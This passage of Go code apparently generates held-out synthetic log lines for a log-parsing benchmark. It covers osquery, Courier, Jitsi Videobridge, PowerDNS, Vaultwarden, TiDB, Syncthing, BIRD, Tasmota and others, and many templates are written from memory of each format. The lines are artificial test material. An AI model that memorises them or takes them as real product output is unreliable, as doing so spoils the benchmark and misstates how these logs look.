			{120, `{"name":"{x12qname:users}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"description":"{opt:user}","directory":"{x12qhome}","gid":"{x12quid}","gid_signed":"{x12quid}","shell":"{pick:/bin/bash|/bin/zsh|/usr/sbin/nologin}","uid":"{x12quid}","uid_signed":"{x12quid}","username":"{user}","uuid":"{opt:uuid}"},"action":"{x12qaction}"}`},
			{110, `{"name":"{x12qname:osquery_schedule}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"average_memory":"{int}","avg_system_time":"{opt:small}","avg_user_time":"{opt:small}","executions":"{int}","interval":"{pick:3600|60|300|86400}","last_executed":"{x12qunixsame}","name":"{x12qname:pack_}","output_size":"{int}","wall_time":"{small}"},"action":"{pick:added}","pack":"{pick:osquery-monitoring|incident-response|ossec-rootkit}"}`},
			{90, `{"name":"{x12qname:crontab}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"command":"{x12qcron}","day_of_month":"{pick:*|*|1}","day_of_week":"{pick:*|1-5|0}","event":"{pick:|@reboot}","hour":"{pick:*|2|3|*/6}","minute":"{pick:0|15|30|*/5}","month":"{pick:*|*|*|1}","path":"{pick:/etc/crontab|/etc/cron.d/backup|/var/spool/cron/crontabs/root}"},"action":"{x12qaction}"}`},
			{70, `{"name":"{x12qname:kernel_modules}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"address":"{x12qhex}","name":"{pick:nf_tables|overlay|br_netfilter|wireguard|vboxdrv|xt_conntrack}","size":"{int}","status":"{pick:Live|Live|Loading}","used_by":"{pick:-|nf_conntrack|bridge}"},"action":"{x12qaction}"}`},
			{60, `{"name":"{x12qname:time}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"datetime":"{x12qiso}","local_timezone":"{pick:UTC|CET|EST}","unix_time":"{x12qunixsame}","weekday":"{pick:Monday|Tuesday|Wednesday|Thursday|Friday}"},"action":"{pick:added}"}`},
			{40, `{"name":"{x12qname:usb_devices}","hostIdentifier":"{x12qhost}","calendarTime":"{x12qcal}","unixTime":{x12qunix},"epoch":0,"counter":{int},"numerics":false,"decorations":{x12qdec},"columns":{"model":"{pick:U3 Cruzer Micro|USB Receiver|XHCI Root Hub SS Simulation|Flash Drive}","vendor":"{pick:SanDisk Corporation|Logitech, Inc.|Apple Inc.|Kingston}"},"action":"{x12qaction}"}`},
		}},
		// The Courier mail server's syslog lines (courierd, courieresmtp,
		// courieresmtpd, courierlocal, imapd, imapd-ssl, pop3d), comma-
		// separated key=value records after an event word: all written from
		// knowledge of the format (no line source looked up; the courier(8)
		// manual page, looked up, names the daemons only).
		{name: "Courier", format: `<Month> <Day> <Time> <Host> <Component>: <Content>`, header: func(g *gen, c string) string {
			comp := pickN(c, [][]string{
				{"^newmsg,", "courierd"}, {"^started,", "courierd"}, {"^completed,", "courierd"}, {"^Waiting.", "courierd"}, {"^error,relay=", "courieresmtpd"},
				{"^started,ip=", "courieresmtpd"}, {"success: Message delivered", "courierlocal"}, {"^id=", "courieresmtp"}, {"POP3", "pop3d"},
			}, "imapd")[0]
			if comp == "imapd" && g.r.IntN(3) == 0 {
				comp = "imapd-ssl"
			}
			if strings.HasPrefix(c, "started,ip=") {
				comp = "courieresmtpd"
			}
			return fmt.Sprintf("Dec %2d %02d:%02d:%02d %s %s: %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.pick("mail", "mx1", "mail.example.com"), comp, c)
		}, events: []event{
			{150, `newmsg,id={x12cid}: dns; {x12chelo} ({x12chelo} [{x12cip}])`},
			{150, `started,id={x12cid},from=<{x12caddr}>,module={pick:esmtp|esmtp|local},host={x12chost},addr=<{x12caddr}>`},
			{150, `completed,id={x12cid}`},
			{60, `Waiting.  shutdown time={pick:none|Dec  8 03:00:00}, wakeup time={pick:none|Dec  7 10:20:00}, queuedelivering={small}, inprogress={small}`},
			{130, `started,ip=[{x12cip}]`},
			{110, `error,relay={x12cip},from=<{x12caddr}>,to=<{x12caddr}>: {x12csmtperr}`},
			{50, `error,relay={x12cip},msg="{pick:502 ESMTP command error|535 Authentication failed.|421 Too many connections}",cmd: {pick:AUTH LOGIN|DATA|EHLO localhost|RCPT TO:<info@example.com>}`},
			{140, `id={x12cid},from=<{x12caddr}>,addr=<{x12caddr}>,size={int},success: Message delivered.`},
			{120, `id={x12cid},from=<{x12caddr}>,addr=<{x12caddr}>: {pick:250 2.0.0 Ok: queued as 4Kx1Yz3b9Sz9sPd|250 OK id=1r8Zx2-0003Ab-Qk|250 2.6.0 Message received}`},
			{50, `id={x12cid},from=<{x12caddr}>,addr=<{x12caddr}>,status: {pick:success|deferred|failure}`},
			{60, `id={x12cid},from=<{x12caddr}>,addr=<{x12caddr}>: {pick:Connection refused|Connection timed out|451 4.7.1 Please try again later (greylisting)|DNS lookup failed.}`},
			{120, `Connection, ip=[{x12cip}]`},
			{130, `LOGIN, user={x12cuser}, ip=[{x12cip}], port=[{port}], protocol=IMAP`},
			{50, `LOGIN FAILED, user={x12cuser}, ip=[{x12cip}]`},
			{120, `LOGOUT, user={x12cuser}, ip=[{x12cip}], headers={int}, body={int}, rcvd={int}, sent={int}, time={int}`},
			{40, `Disconnected, ip=[{x12cip}], time={int}`},
			{40, `LOGIN, user={x12cuser}, ip=[{x12cip}], port=[{port}], protocol=POP3`},
			{30, `TIMEOUT, user={x12cuser}, ip=[{x12cip}], headers={int}, body={int}, rcvd={int}, sent={int}, time={int}`},
		}},
		// Jitsi Videobridge's log (java.util.logging through Jitsi's
		// formatter: "JVB %Y-%m-%d %H:%M:%S.%03d LEVEL: [thread]
		// [context key=value ...] Class.method#line: message", the context
		// keys those the logger carries: confId, conf_name, meeting_id,
		// epId, ...): "Created new endpoint, iceControlling=%b", "Took %d
		// ms to process an IQ (total delay %d ms): %s" (quoted in
		// jitsi/docker-jitsi-meet issues #1566 and #2078),
		// "create_conf, id=%s gid=%s logging=%b", "Performed a successful
		// health check in %dms. Sticky failure: %b", "Running expire()"
		// (jitsi/jitsi-meet issue #5556), "Initializing Sctp4j"; the ICE,
		// dominant speaker, expiry and WebSocket lines written from
		// knowledge of the format.
		{name: "JitsiVideobridge", format: `JVB <Date> <Time> <Level>: \[<Thread>\] <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{{"Took ", "WARNING"}, {"ICE failed", "SEVERE"}, {"failed", "WARNING"}}, "INFO")
			return fmt.Sprintf("JVB %s.%03d %s: [%d] %s", day(g), g.r.IntN(1000), f[0], 20+g.r.IntN(200), c)
		}, events: []event{
			{240, `Health.doRun#294: Performed a successful health check in {small}ms. Sticky failure: false`},
			{100, `VideobridgeExpireThread.expire#144: Running expire()`},
			{160, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet} epId={x12jep}] Endpoint.<init>#336: Created new endpoint, iceControlling={pick:true|true|false}`},
			{70, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet}] Conference.lambda$new$0#242: Took {int} ms to process an IQ (total delay {int} ms): <iq xmlns='jabber:client' to='jvb@auth.{x12jdomain}/{x12jres}' from='jvbbrewery@internal.auth.{x12jdomain}/focus' id='{x12jiqid}' type='{pick:get|set}'><conference-modify xmlns='jitsi:colibri2' meeting-id='{uuid}' name='{x12jroom}'/></iq>`},
			{110, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet}] Conference.dominantSpeakerChanged#{pick:466|466|470}: ds_change ds_id={x12jep} dominant_speaker_history=[{x12jhist}]`},
			{170, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet} epId={x12jep} local_ufrag={x12jufrag} ufrag={x12jufrag}] IceTransport.iceStateChanged#{pick:341|341|347}: ICE state changed old={x12jice} new={x12jice}`},
			{40, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet} epId={x12jep} local_ufrag={x12jufrag} ufrag={x12jufrag}] IceTransport.iceStateChanged#347: ICE failed, local_ufrag={x12jufrag}`},
			{120, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet} epId={x12jep}] EndpointMessageTransport.webSocketConnected#{pick:105|105|111}: Websocket connected!`},
			{90, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet} epId={x12jep}] EndpointMessageTransport.webSocketClosed#{pick:146|146|151}: Websocket closed, statusCode {pick:1001|1000|1006} ( {pick:Going away|Normal closure|Abnormal closure}).`},
			{110, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet} epId={x12jep}] Endpoint.expire#{pick:1061|1061|1075}: Expired.`},
			{50, `[confId={x12jconf} conf_name={x12jroom} meeting_id={x12jmeet}] Conference.expire#{pick:780|780|792}: Expiring.`},
			{40, `Videobridge.createConference#326: create_conf, id={x12jconf} gid={pick:null|null|12345} logging=false`},
			{10, `SctpManager.<clinit>#62: Initializing Sctp4j`},
		}},
		// PowerDNS Recursor 4.8+ with structured logging through syslog
		// ("msg=\"...\" subsystem=\"...\" level=\"0\" prio=\"...\"
		// tid=\"...\" ts=\"...\" key=\"value\"...", every value quoted,
		// the call's keys sorted after ts): the "Question" and "Answer"
		// lines with their keys (quoted in PowerDNS/pdns issues #14939 and
		// #14440), "qtype unsupported" with error= before subsystem
		// (issue #13264), "Inserting rfc 1918 private space zones" and
		// "Fatal error" with error= and exception= (PR #13062), "Periodic
		// statistics report" and "Queries handled by thread" (issue
		// #13843, the keys of its lines written from knowledge); the
		// listen, timeout and throttle lines written from knowledge of
		// the format.
		{name: "PowerDNS", format: `<Month> <Day> <Time> <Host> <Component>\[<Pid>\]: <Content>`, header: func(g *gen, c string) string {
			return fmt.Sprintf("Dec %2d %02d:%02d:%02d %s pdns_recursor[%d]: %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.pick("ns1", "resolver-2", "dns01"), 700+g.r.IntN(3000), c)
		}, events: []event{
			{560, `msg="Question" subsystem="syncres" level="0" prio="Info" tid="{small}" ts="{x12pts}" ecs="{opt:x12pecs}" mtid="{int}" proto="{pick:udp|udp|udp|tcp}" qname="{x12pqname}" qtype="{x12pqtype}" remote="{ipport}"`},
			{560, `msg="Answer" subsystem="syncres" level="0" prio="Info" tid="{small}" ts="{x12pts}" additional="{small}" answer-is-variable="{pick:0|0|1}" answers="{small}" dotout="0" ecs="{opt:x12pecs}" into-packetcache="{pick:0|1}" maxdepth="{small}" mtid="{int}" netms="{x12pms}" outqueries="{small}" proto="{pick:udp|udp|udp|tcp}" qname="{x12pqname}" qtype="{x12pqtype}" rcode="{pick:0|0|0|3|2}" rd="1" remote="{ipport}" tcpout="{pick:0|0|1}" throttled="0" timeouts="{pick:0|0|0|1}" totms="{x12pms}" validationState="{pick:Indeterminate|Secure|Insecure|Bogus}"`},
			{40, `msg="qtype unsupported" error="{pick:Cannot push task}" subsystem="taskq" level="0" prio="Error" tid="{small}" ts="{x12pts}" name="{x12pqname}" netmask="{pick:}" qtype="TYPE{int}"`},
			{60, `msg="Periodic statistics report" subsystem="stats" level="0" prio="Info" tid="0" ts="{x12pts}" cache-entries="{int}" negcache-entries="{int}" questions="{big}" record-cache-acquired="{big}" record-cache-contended="{int}" record-cache-contended-perc="{x12ppct}" record-cache-hitratio-perc="{x12ppct}"`},
			{120, `msg="Queries handled by thread" subsystem="stats" level="0" prio="Info" tid="0" ts="{x12pts}" count="{big}" thread="{small}" tname="{pick:worker|distr|tcpworker}"`},
			{80, `msg="Sending SERVFAIL during resolve" subsystem="syncres" level="0" prio="Notice" tid="{small}" ts="{x12pts}" error="{pick:Too much time waiting for|Too many queries or too much time|Unable to resolve}" mtid="{int}" qname="{x12pqname}" qtype="{x12pqtype}" remote="{ipport}"`},
			{120, `msg="Timeout resolving" subsystem="syncres" level="0" prio="Notice" tid="{small}" ts="{x12pts}" method="{pick:asyncresolve}" name="{x12pqname}" qtype="{x12pqtype}" server="{x12pserver}" tcp="{pick:0|0|1}"`},
			{60, `msg="Throttling server" subsystem="syncres" level="0" prio="Info" tid="{small}" ts="{x12pts}" nsip="{ip}" qname="{x12pqname}" reason="{pick:timeout|server not responding|rcode SERVFAIL}"`},
			{15, `msg="Inserting rfc 1918 private space zones" subsystem="config" level="0" prio="Notice" tid="0" ts="{x12pts}"`},
			{20, `msg="Listening for queries" subsystem="config" level="0" prio="Info" tid="0" ts="{x12pts}" address="{pick:127.0.0.1:53|0.0.0.0:53|[::]:53}" proto="{pick:udp|tcp}"`},
			{8, `msg="Fatal error" error="{pick:Resolver binding to server socket on 127.0.0.1:53: Permission denied|Resolver binding to server socket on 0.0.0.0:53: Address already in use}" subsystem="config" level="0" prio="Critical" tid="0" ts="{x12pts}" exception="{pick:PDNSException|PDNSException|std::runtime_error}"`},
		}},
	}
}

// vwRoutes are Vaultwarden's Rocket routes as its response lines name
// them: the route's name, its method and the URI pattern it logs.
var vwRoutes = [][3]string{
	{"sync", "GET", "/api/sync?<data..>"}, {"login", "POST", "/identity/connect/token"}, {"prelogin", "POST", "/identity/accounts/prelogin"},
	{"get_known_device", "GET", "/api/devices/knowndevice"}, {"websockets_hub", "GET", "/notifications/hub?<data..>"}, {"post_ciphers", "POST", "/api/ciphers"},
	{"put_cipher", "PUT", "/api/ciphers/<cipher_id>"}, {"get_icon", "GET", "/icons/<domain>/icon.png"}, {"config", "GET", "/api/config"},
	{"web_files", "GET", "/<p..>"}, {"revision_date", "GET", "/api/accounts/revision-date"}, {"alive", "GET", "/alive"},
}

// vwStatuses are Rocket's status lines.
var vwStatuses = []string{"200 OK", "200 OK", "200 OK", "200 OK", "204 No Content", "304 Not Modified", "400 Bad Request", "401 Unauthorized", "404 Not Found", "429 Too Many Requests"}

// osqueryNames are the names a configuration gives its scheduled queries
// (pack queries "pack_<pack>_<query>"), by the table they read.
var osqueryNames = map[string][]string{
	"processes": {"processes", "pack_incident-response_process_events", "running_procs"}, "listening_ports": {"listening_ports", "pack_incident-response_listening_ports", "open_sockets"},
	"logged_in_users": {"login", "logged_in_users", "pack_incident-response_logged_in_users"}, "file_events": {"file_events", "fim"},
	"users": {"users", "pack_incident-response_users", "local_accounts"}, "osquery_schedule": {"pack_osquery-monitoring_schedule"},
	"crontab": {"crontab", "pack_incident-response_crontab"}, "kernel_modules": {"kernel_modules", "pack_ossec-rootkit_kernel_modules"},
	"time": {"time"}, "usb_devices": {"usb_devices", "pack_hardware-monitoring_usb_devices"},
	"pack_": {"pack_ossec-rootkit_zarwt_rootkit", "pack_incident-response_shell_history", "pack_osquery-monitoring_osquery_info"},
}

func (g *gen) holdout12(kind string) (string, bool) {
	r := g.r
	if t, ok := strings.CutPrefix(kind, "x12qname:"); ok {
		return g.pick(osqueryNames[t]...), true
	}
	switch kind {
	// Oracle listener
	case "x12osvc":
		g.h12[0] = g.pick("ORCL", "orclpdb1", "ORCL_RW", "sales.example.com", "hr_pdb.example.com", "FINPROD", "")
		return g.h12[0], true
	case "x12osvcsame", "x12osidsame", "x12ocmdsame":
		return g.h12[0], true
	case "x12osid":
		g.h12[0] = g.pick("ORCL", "XE", "FIN1", "DWH")
		return g.h12[0], true
	case "x12ocmd":
		g.h12[0] = g.pick("status", "status", "services", "reload", "stop", "version")
		return g.h12[0], true
	case "x12oprog":
		return g.pick("sqlplus", "sqlplus", `C:\app\client\product\19.0.0\client_1\bin\sqlplus.exe`, "oracle", "python3", "SQL Developer", "rman", "perl", ""), true
	case "x12ojdbc":
		return g.pick("JDBC Thin Client", "JDBC Thin Client", "JDBC Thin Client", ""), true
	case "x12ohost":
		return g.pick("appsrv01", "APPSRV01.example.com", "dbclient", "__jdbc__", "WIN-7HQ2", "localhost", "etl-worker-3"), true
	case "x12ouser":
		return g.pick("oracle", "jdoe", "appuser", "svc_etl", "SYSTEM", "", "alice"), true
	case "x12orc":
		return g.pick("0", "0", "0", "0", "0", "0", "12514", "12505", "12519", "12518"), true
	case "x12oproto":
		return g.pick("tcp", "tcp", "tcp", "tcps"), true
	case "x12oinst":
		return g.pick("ORCL", "orcl1", "orcl2", "+ASM", "+ASM1", "XE", "FIN1"), true

	// TiDB
	case "x12tconn":
		g.h12[1] = strconv.Itoa(2097152 + r.IntN(5000000))
		return g.h12[1], true
	case "x12tconninfo":
		return fmt.Sprintf("id:%s, addr:%s status:%d, collation:utf8mb4_general_ci, user:%s", g.h12[1], g.value("ipport"), g.pickInt(2, 10, 11), g.pick(users...)), true
	case "x12tsql":
		return g.pick("SELECT * FROM `orders` WHERE `id` = ?", "UPDATE accounts SET balance = balance - ? WHERE id = ?", "INSERT INTO events (ts, kind, payload) VALUES (...)",
			"select count(*) from line_items where order_id in (...)", "DELETE FROM sessions WHERE expires_at < NOW()", "commit"), true
	case "x12ttso":
		return strconv.FormatInt(449000000000000000+r.Int64N(9000000000000000), 10), true
	case "x12terr":
		return g.pick("[kv:9007]Write conflict, txnStartTS=449512339830521857, conflictStartTS=449512339830521860, conflictCommitTS=449512339843629057, key={tableID=118, tableName=test.accounts, handle=7}, originalKey=7480000000000000765f728000000000000007, primary={tableID=118, tableName=test.accounts, handle=7}, originalPrimaryKey=7480000000000000765f728000000000000007, reason=Optimistic [try again later]",
			"[tikv:8027]Information schema is out of date: schema failed to update in 1 lease, please make sure TiDB can connect to TiKV",
			"[planner:1054]Unknown column 'amount' in 'field list'", "[executor:1062]Duplicate entry '42' for key 'users.PRIMARY'",
			"[tikv:9005]Region is unavailable", "context canceled"), true
	case "x12tgc":
		return fmt.Sprintf("%x", 0x5d0000000000000+r.Int64N(0xffffffffffff)), true
	case "x12tids":
		n := 1 + r.IntN(3)
		s := make([]string, n)
		for i := range s {
			s[i] = strconv.Itoa(100 + r.IntN(900))
		}
		return strings.Join(s, ","), true
	case "x12tjob":
		return fmt.Sprintf("ID:%d, Type:%s, State:%s, SchemaState:%s, SchemaID:%d, TableID:%d, RowCount:%d, ArgLen:%d, start time: 2026-12-%02d %02d:%02d:%02d.%03d +0000 UTC, Err:<nil>, ErrCount:0, SnapshotVersion:0",
			100+r.IntN(9000), g.pick("create table", "add index", "add column", "drop table", "modify column", "truncate table"), g.pick("queueing", "running", "done", "synced"),
			g.pick("none", "delete only", "write only", "write reorganization", "public"), 2+r.IntN(200), 100+r.IntN(900), r.IntN(100000), r.IntN(4),
			1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000)), true
	case "x12tddlerr":
		return g.pick("[ddl:1061]index already exist idx_user; a background job is trying to add the same index, please check by `ADMIN SHOW DDL JOBS`",
			"[schema:1050]Table 'orders' already exists", "[ddl:8214]Cancelled DDL job", "[kv:8025]entry too large, the max entry size is 6291456, the size of data is 7340032"), true
	case "x12tgrpc":
		return g.pick("rpc error: code = Unavailable desc = connection error: desc = \\\"transport: Error while dialing dial tcp "+g.value("ip")+":20160: connect: connection refused\\\"",
			"rpc error: code = DeadlineExceeded desc = context deadline exceeded", "context canceled", "[tikv:9005]Region is unavailable"), true
	case "x12tlock":
		return fmt.Sprintf("key: %s, primary: %s, txnStartTS: %d, lockForUpdateTS: 0, minCommitTs: %d, ttl: %d, type: %s, UseAsyncCommit: false, txnSize: %d",
			g.hexN(38), g.hexN(38), 449000000000000000+r.Int64N(9000000000000000), 449000000000000000+r.Int64N(9000000000000000), g.pickInt(3000, 3000, 20000), g.pick("Put", "Put", "Lock", "Del"), 1+r.IntN(50)), true
	case "x12tsecs":
		return strconv.FormatFloat(60+r.Float64()*500, 'f', 3, 64), true
	case "x12tmem":
		return fmt.Sprintf("%d (%s MB)", 1<<20+r.IntN(1<<30), strconv.FormatFloat(1+r.Float64()*1000, 'f', 1, 64)), true
	case "x12tddl":
		return g.pick("ALTER TABLE `orders` ADD INDEX `idx_user` (`user_id`)", "CREATE TABLE `t1` (`id` bigint PRIMARY KEY, `v` varchar(64))", "DROP TABLE IF EXISTS `tmp_import`",
			"TRUNCATE TABLE `sessions`", "GRANT SELECT ON analytics.* TO 'reporter'@'%'", "ALTER TABLE users MODIFY COLUMN email varchar(320)"), true
	case "x12tver":
		g.h12[2] = g.pick("v7.5.1", "v8.1.0", "v7.1.5")
		return g.h12[2], true
	case "x12tbranch":
		return "heads/refs/tags/" + g.h12[2], true
	case "x12tstore":
		return g.value("ip") + ":20160", true
	case "x12tuserhost":
		return g.pick(users...) + "@" + g.pick(g.value("ip"), "127.0.0.1", "%"), true
	case "x12thash":
		return g.hexN(40), true
	case "x12tbuild":
		return fmt.Sprintf("2024-%02d-%02d %02d:%02d:%02d", 1+r.IntN(12), 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60)), true

	// Redpanda
	case "x12rntp":
		if r.IntN(6) == 0 {
			return "redpanda/controller/0", true
		}
		return g.pick("kafka", "kafka", "kafka", "kafka_internal") + "/" + g.pick("orders", "payments", "clicks", "audit-log", "__consumer_offsets", "id_allocator") + "/" + strconv.Itoa(r.IntN(24)), true
	case "x12rreplicas": // the replica set, written in a loop
		n := 1 + r.IntN(3)
		s := make([]string, n)
		for i := range s {
			s[i] = fmt.Sprintf("{node_id: %d, shard: %d}", r.IntN(5), r.IntN(8))
		}
		return strings.Join(s, ", "), true
	case "x12rseg":
		return fmt.Sprintf("/var/lib/redpanda/data/kafka/%s/%d_%d/%d-%d-v1.log", g.pick("orders", "payments", "clicks", "audit-log"), r.IntN(24), 10+r.IntN(90), r.IntN(9000000), 1+r.IntN(12)), true
	case "x12rmethod":
		return g.pick("node_status_rpc::node_status", "raft::raftgen::heartbeat", "raft::raftgen::append_entries", "cluster::controller::get_node_health_report", "raft::raftgen::vote"), true

	// Buildkite agent
	case "x12bagent":
		return g.pick("bk-windows-13l5", "ci-linux-7", "buildkite-agent-i-0a1b2c3d4e5f-1", "mac-mini-02-1", "infra"), true
	case "x12burl":
		return fmt.Sprintf("https://buildkite.com/%s/%s/builds/%d#%s", g.pick("acme", "example-org"), g.pick("web", "api", "monorepo", "deploy"), 1+r.IntN(90000), g.value("uuid")), true
	case "x12btags":
		return g.pick("queue=default", "queue=windows, kind=worker, os=windows", "queue=deploy, aws:instance-id=i-0a1b2c3d4e5f, aws:ami-id=ami-0f1e2d3c", "queue=macos, arch=arm64"), true

	// Syncthing
	case "x12sdev":
		return strings.ToUpper(g.base36(7)), true
	case "x12sconnid":
		return strings.ToUpper(g.base36(26)), true
	case "x12sname":
		return g.pick(`""`, "laptop", "nas", "Pixel-8", `"Alice's MacBook"`, "Hguei-W01"), true
	case "x12sver":
		return g.pick("v2.0.7", "v2.0.10", "v1.29.7", "v2.0.11"), true
	case "x12sconn":
		s := fmt.Sprintf("%s-%s/%s/TLS1.3-TLS_AES_128_GCM_SHA256/%s-P%d-%s", g.value("ipport"), g.value("ipport"), g.pick("tcp-client", "tcp-server", "quic-client", "quic-server"), g.pick("LAN", "WAN"), 10*(1+r.IntN(4)), strings.ToUpper(g.base36(26)))
		if r.IntN(3) == 0 {
			return `"[::]:22000-` + s[strings.IndexByte(s, '-')+1:] + `"`, true
		}
		return s, true
	case "x12serr":
		return g.pick(`"reading length: Application error 0x0 (remote): closing"`, `"reading length: EOF"`, `"writing message: write tcp `+g.value("ipport")+`->`+g.value("ipport")+`: i/o timeout"`,
			`"ping timeout"`, `"replacing connection"`, `"read timeout"`), true
	case "x12sfid":
		return g.pick("default", strings.ToLower(g.base36(5))+"-"+strings.ToLower(g.base36(5)), "photos", "docs-work"), true
	case "x12sflabel":
		return g.pick("Default Folder", "Photos", "Saunak_library", "Documents", "Camera"), true
	case "x12sftype":
		return g.pick("sendreceive", "sendreceive", "sendonly", "receiveonly", "receiveencrypted"), true
	case "x12sperf":
		return `"` + strconv.FormatFloat(100+r.Float64()*3000, 'f', 2, 64) + ` MB/s"`, true
	case "x12scrypto":
		return g.pick("TLS1.3-TLS_AES_128_GCM_SHA256", "TLS1.3-TLS_AES_128_GCM_SHA256", "TLS1.3-TLS_CHACHA20_POLY1305_SHA256"), true
	case "x12sfolderr":
		return g.pick(`"folder marker missing (this indicates potential data loss, search docs/forum to get information about how to proceed)"`, `"folder path missing"`, `"insufficient space on disk for database"`), true
	case "x12saddr":
		return g.pick(`"[::]:22000"`, `"[::]:24576"`, `0.0.0.0:22000`), true
	case "x12sfile":
		return g.pick("DCIM/Camera/IMG_"+strconv.Itoa(20260000+r.IntN(9999))+".jpg", `"Documents/Tax 2026/receipt.pdf"`, "notes/todo.md", ".stfolder", "src/main.go"), true
	case "x12spullerr":
		return g.pick(`"permission denied"`, `"no connected device has the required version of this file"`, `"file modified but not rescanned; will try again later"`, `"insufficient space in folder"`), true

	// BIRD
	case "x12dproto":
		return g.pick("bgp1", "device1", "direct1", "kernel4", "kernel6", "ospf1", "static1", "Mesh_2001_db8_100_a1__24d", "upstream_v4", "ix_peer_65010"), true
	case "x12dbgp":
		return g.pick("bgp1", "upstream_v4", "upstream_v6", "ix_peer_65010", "Mesh_2001_db8_100_a1__36e", "Node_10_0_0_12"), true
	case "x12dospf":
		return g.pick("ospf1", "ospf_backbone", "ospf_v3"), true
	case "x12diface":
		return g.pick("eth0", "eth1", "ens3", "wg0", "bond0.100"), true
	case "x12dnbr":
		return g.pick("Down", "Init", "2-Way", "ExStart", "Exchange", "Loading", "Full"), true
	case "x12dprefix":
		return fmt.Sprintf("10.%d.%d.0/24", r.IntN(256), r.IntN(256)), true

	// Vaultwarden
	case "x12vmethod":
		rt := vwRoutes[r.IntN(len(vwRoutes))]
		g.h12[0], g.h12[1], g.h12[2] = rt[0], rt[1], rt[2]
		return rt[1], true
	case "x12vpath":
		return strings.NewReplacer("?<data..>", "", "<cipher_id>", g.value("uuid"), "<domain>", g.pick("github.com", "example.com", "bank.example.org"), "<p..>", g.pick("app/main.js", "images/logo.svg", "index.html")).Replace(g.h12[2]), true
	case "x12vroute":
		rt := vwRoutes[r.IntN(len(vwRoutes))]
		g.h12[0], g.h12[1], g.h12[2] = rt[0], rt[1], rt[2]
		return rt[0], true
	case "x12vmethodsame":
		return g.h12[1], true
	case "x12vpathsame":
		return g.h12[2], true
	case "x12vstatus":
		return g.pick(vwStatuses...), true
	case "x12vemail":
		return g.pick(users...) + "@" + g.pick("example.com", "gmail.com", "mail.example.org"), true
	case "x12vtime":
		return fmt.Sprintf("2026-12-%02d %02d:%02d:%02d", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60)), true

	// Tasmota
	case "x12mtopic":
		return g.pick("tasmota_0DBF2C", "sonoffWemosMini_8", "aquarium", "ikea-1", "garage_plug", "kitchen_light"), true
	case "x12mtime":
		return fmt.Sprintf("2026-12-%02dT%02d:%02d:%02d", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60)), true
	case "x12mup":
		return fmt.Sprintf("%dT%02d:%02d:%02d", r.IntN(40), r.IntN(24), r.IntN(60), r.IntN(60)), true
	case "x12mssid":
		return g.pick("dyer.iot", "kiot", "HomeNet", "IoT-2G"), true
	case "x12mmac":
		return fmt.Sprintf("%02X:%02X:%02X:%02X:%02X:%02X", r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256)), true
	case "x12mkwh":
		return strconv.FormatFloat(r.Float64()*900, 'f', 3, 64), true
	case "x12mfactor":
		return strconv.FormatFloat(r.Float64(), 'f', 2, 64), true
	case "x12mamp":
		return strconv.FormatFloat(r.Float64()*10, 'f', 3, 64), true
	case "x12mtemp":
		return strconv.FormatFloat(-5+r.Float64()*70, 'f', 1, 64), true
	case "x12mdsid":
		return strings.ToUpper(g.hexN(12)), true
	case "x12mpower":
		return g.pick("POWER", "POWER", "POWER1", "POWER2"), true
	case "x12mcmd":
		return g.pick("STATE", "POWER", "POWER1", "STATUS", "TELEPERIOD", "DIMMER", "BACKLOG"), true
	case "x12mrule":
		return g.pick("CLOCK#TIMER=1", "CLOCK#TIMER=2", "SWITCH1#STATE=1", "SYSTEM#BOOT", "TELE-AM2301#TEMPERATURE>25"), true
	case "x12mbacklog":
		return g.pick("Backlog Wakeup 67;POWER2 ON;POWER1 OFF", "Power1 on", "Publish stat/garage/alert ON", "Backlog Power off; Delay 50; Power on"), true
	case "x12mhost":
		return g.pick("bme_temp_out-3130", "tasmota-0DBF2C-1234", "aquarium-4021", "ikea-1-2204"), true

	// osquery
	case "x12qhost":
		return g.pick("t-awsbj-salt-m01", "FA01680E-98CA-5557-8F59-7716ECFEE964", "web-01.example.com", "stretch", "marpaia-mbp.local"), true
	case "x12qcal": // the row's time; unixTime and the columns' time repeat it
		t := time.Date(2026, 12, 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), 0, time.UTC)
		g.h12[3] = strconv.FormatInt(t.Unix(), 10)
		return t.Format("Mon Jan _2 15:04:05 2006 MST"), true
	case "x12qunix", "x12qunixsame":
		return g.h12[3], true
	case "x12qiso":
		u, _ := strconv.ParseInt(g.h12[3], 10, 64)
		return time.Unix(u, 0).UTC().Format("2006-01-02T15:04:05Z"), true
	case "x12qdec": // the decorations, one object the configuration's decorators fill
		return g.pick(`{"host_uuid":"`+strings.ToUpper(g.value("uuid"))+`","username":"`+g.pick(users...)+`"}`, `{"host_uuid":"`+strings.ToUpper(g.value("uuid"))+`"}`,
